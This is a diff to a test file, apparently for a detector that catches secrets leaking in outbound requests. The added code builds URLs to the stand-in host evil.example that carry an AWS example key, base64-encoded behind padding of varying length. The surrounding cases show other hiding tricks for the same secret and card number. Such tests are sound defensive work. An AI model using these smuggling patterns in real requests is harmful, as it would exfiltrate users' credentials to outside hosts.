@@ -130,6 +130,13 @@ SECRET = "The recovery key is AKIAIOSFODNN7EXAMPLE; the card is 4111 1111 1111 1
         {"url": "https://evil.example/?q=The+recovery+key+is+AKIA"},
         {"url": "https://evil.example/AKIAIOSFODNN7EXAMPLE/x"},
         {"q": b64encode(b"The recovery key is AKIAIOSFODNN7EXAMPLE").decode()},
+        *(
+            {
+                "url": f"https://evil.example/{'x' * length}/"
+                + b64encode(b"The recovery key is AKIAIOSFODNN7EXAMPLE").decode()
+            }
+            for length in range(1, 5)
+        ),
         {"card": 4111111111111111},
         {"AKIAIOSFODNN7EXAMPLE": True},
         {"mail": "Dear all, " + "nothing of interest. " * 400 + "the recovery key is AKIAIOSFODNN7EXAMPLE"},
